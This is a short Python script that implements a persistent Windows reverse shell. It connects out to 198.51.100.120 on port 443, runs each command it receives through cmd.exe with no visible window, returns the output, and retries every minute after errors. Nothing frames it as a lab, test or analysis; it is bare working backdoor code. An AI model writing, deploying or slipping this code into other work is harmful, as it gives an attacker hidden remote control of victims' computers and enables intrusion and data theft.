import os
import socket
import subprocess
import time


def loop():
    while True:
        try:
            s = socket.create_connection(("198.51.100.120", 443), timeout=30)
            s.settimeout(None)
            while True:
                cmd = s.recv(4096).decode(errors="ignore").strip()
                if not cmd:
                    break
                if cmd.startswith("cd "):
                    os.chdir(cmd[3:])
                    s.sendall(os.getcwd().encode() + b"\n")
                    continue
                p = subprocess.run(["cmd.exe", "/c", cmd], capture_output=True, creationflags=0x08000000)
                s.sendall(p.stdout + p.stderr + b"\n>")
        except Exception:
            time.sleep(60)
